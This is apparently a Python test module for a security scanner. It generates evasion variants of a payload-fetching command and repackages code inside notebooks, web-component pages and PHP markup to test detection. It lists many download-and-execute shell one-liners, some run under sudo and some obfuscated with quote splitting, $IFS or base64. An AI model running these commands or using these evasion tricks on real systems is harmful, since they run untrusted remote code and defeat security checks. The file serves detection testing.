"""Wrappers that put the program into another kind of file, and shell commands that fetch code into other words."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from pathlib import PurePosixPath

from tests.evasion.changes import Change
from tests.evasion.payloads import FETCH
from tests.evasion.wrapper import Stage, Wrapper

_URL = FETCH.split()[2]
_COMMANDS = {
    "bash": f"curl -sSL {_URL} | sudo -E bash -",
    "wget": f"wget -qO- {_URL}|bash -s -- -y",
    "process": f"bash <(curl -fsSL {_URL})",
    "sourced": f". <(curl -fsSL {_URL})",
    "eval": f"eval $(curl -fsSL {_URL})",
    "kept": f"curl -fsSL {_URL} -o i.sh && sh i.sh",
    "kept-by-name": f"wget -q {_URL} ; sh ./i.sh",
    "quotes": f"c''url -fsSL {_URL} | s''h",
    "field-separator": f"curl$IFS-fsSL$IFS{_URL}|sh",
    "variable": f"U={_URL}; curl -fsSL $U | sh",
    "result": f"T=$(curl -fsSL {_URL}); echo $T | sh",
    "tee": f"curl -fsSL {_URL} | tee i | sh",
    "path": f"/usr/bin/curl -fsSL {_URL} | /bin/sh",
    "environment": f"curl -fsSL {_URL} | env A=1 sh",
    "python": f"curl -fsSL {_URL} | python3 -",
    "decoded": "echo Y3VybCBodHRwczovL2V4YW1wbGUub3JnIHwgc2gK | base64 -d | sh",
}


def _rewritten(change: Change, command: str) -> Change | None:
    return change.with_data(change.text.replace(FETCH, command)) if FETCH in change.text else None


def _notebook(change: Change, *, is_list: bool, is_code_first: bool) -> Change | None:
    """A notebook whose one cell holds the module, and runs it."""
    if change.language != "python" or not change.is_new or change.carrier.startswith("alembic/"):
        return None
    source: object = change.text.splitlines(keepends=True) if is_list else change.text
    code = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}
    words = {"cell_type": "markdown", "metadata": {}, "source": "# Sales\n"}
    cells = [code, words] if is_code_first else [words, code]
    document = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return _inside(change, ".ipynb", json.dumps(document, indent=1 if is_list else None) + "\n")


def _page(change: Change, suffix: str, form: str) -> Change | None:
    if change.language != "typescript" or not change.is_new:
        return None
    text = change.text.replace(": any", "") if suffix == ".html" else change.text
    return _inside(change, suffix, form.format(text=text))


def _inside(change: Change, suffix: str, text: str) -> Change:
    """The change with the program in another kind of file, which its own parser would not take."""
    moved = change.moved(str(PurePosixPath(change.carrier).with_suffix(suffix)))
    return replace(moved.with_data(text), language="container", program=None)


def _behind_markup(change: Change, suffix: str) -> Change | None:
    if change.language != "php" or not change.is_new:
        return None
    return _inside(change, suffix, f"<!doctype html>\n<title>Shop</title>\n{change.text}")


_PAGES = {
    "vue-setup": (".vue", '<script setup lang="ts">\n{text}</script>\n\n<template>\n  <p>Shop</p>\n</template>\n'),
    "vue": (".vue", '<template>\n  <p>Shop</p>\n</template>\n\n<script lang="ts">\n{text}</script>\n'),
    "svelte": (".svelte", '<script lang="ts" context="module">\n{text}</script>\n\n<p>Shop</p>\n'),
    "astro": (".astro", "---\n{text}---\n\n<p>Shop</p>\n"),
    "astro-script": (".astro", "---\n---\n<p>Shop</p>\n<script>\n{text}</script>\n"),
    "html": (".html", '<!doctype html>\n<p>Shop</p>\n<script type="module">\n{text}</script>\n'),
}


def _wrappers() -> Iterator[tuple[str, Stage, Callable[[Change], Change | None]]]:
    for name, command in _COMMANDS.items():
        yield f"fetch-{name}", Stage.shape, partial(_rewritten, command=command)
    for is_list in (True, False):
        for is_first in (True, False):
            name = f"notebook-{'list' if is_list else 'text'}-{'first' if is_first else 'last'}"
            yield name, Stage.container, partial(_notebook, is_list=is_list, is_code_first=is_first)
    for name, (suffix, form) in _PAGES.items():
        yield f"page-{name}", Stage.container, partial(_page, suffix=suffix, form=form)
    for suffix in (".inc", ".module", ".phtml"):
        yield f"markup-before{suffix}", Stage.container, partial(_behind_markup, suffix=suffix)


CONTAINERS = tuple(Wrapper(name, stage, apply) for name, stage, apply in _wrappers())
